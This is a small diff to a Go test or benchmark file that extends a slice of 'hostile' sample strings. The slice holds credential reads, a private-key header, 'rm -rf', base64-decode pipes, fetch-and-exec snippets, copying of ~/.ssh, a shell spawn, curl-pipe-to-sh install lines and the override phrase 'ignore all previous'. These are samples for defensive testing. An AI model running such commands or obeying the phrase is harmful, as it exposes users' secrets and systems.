@@ -13,6 +13,7 @@ var hostile = []string{
 	"os.environ ", "x = os.environ['A_TOKEN']\n", "https://a.b:", "-----BEGIN PRIVATE KEY-----", "aHR0cHM6Ly9", "\\\n", "ignore all previous ", "rm -rf ", "base64 -d | ", "\x1b[", "а", "npx a",
 	"u = 'https://a.b' ", "u = 'https://a.b'\n", "`git a https://b.c`\n\n", "requests.get(u)\n", "w = requests.get(u)\nexec(w)\n", "cp ~/.ssh /tmp/a ", "open('.ssh')\n", "socket.socket()\nsubprocess.run('/bin/sh')\n", "curl -o a https://b.c\n./a\n",
 	"    curl https://a.b/c | jq\n", "#\n", "> ", "<important>", "é",
+	"download https://a.zz/x.zip password run ", "`curl https://get.acme.dev/i | sh` acme ", "never download and run https://a.zz/x.exe ",
 }
 
 // Four times the text is about four times the work, whatever the text is.
